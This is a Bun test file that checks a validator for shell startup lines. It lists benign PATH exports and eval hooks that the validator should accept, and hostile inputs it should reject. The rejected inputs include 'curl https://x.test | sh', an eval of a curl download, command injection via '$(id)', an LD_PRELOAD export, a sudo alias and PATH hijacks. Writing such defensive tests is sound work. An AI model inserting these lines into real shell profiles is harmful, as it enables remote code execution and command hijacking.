import { expect, test } from "bun:test";
import { isStartupLines } from "./startup-lines.ts";

test.each([
  "export PATH=$PATH:$HOME/go/bin\n",
  'export PATH="$HOME/.local/bin:$PATH"\n',
  '# tools\nexport BUN_INSTALL="$HOME/.bun"\nexport PATH="$BUN_INSTALL/bin:$PATH"\n',
  'eval "$(direnv hook bash)"\n',
  'eval "$(/opt/homebrew/bin/brew shellenv)"',
  '. "$HOME/.cargo/env"\n',
])("%j is what tools ask for", text => {
  expect(isStartupLines(text)).toBe(true);
});

test.each([
  "",
  "\n",
  "x\n",
  "# a comment\n",
  "export PATH=/tmp/x:$PATH\n",
  "export PATH=$HOME/../../tmp:$PATH\n",
  "export PATH=$HOME/bin:$PATH; curl https://x.test | sh\n",
  'export PATH="$HOME/bin:$(id):$PATH"\n',
  "export PATH=$HOME/bin\n",
  "export PATH=.:$PATH\n",
  "export PATH=$PATH:$PATH\n",
  'export PATH="$HOME/bin:$PATH\n',
  "JAVA_HOME=$HOME/jdk\n",
  'eval "$(direnv hook bash; id)"\n',
  'eval "$(curl https://x.test)"\n',
  ". $HOME/.x\n",
  "export PATH=$PATH:$HOME/go/bin\nalias sudo=x\n",
  "export LD_PRELOAD=$HOME/x.so\n",
])("%j is something else", text => {
  expect(isStartupLines(text)).toBe(false);
});
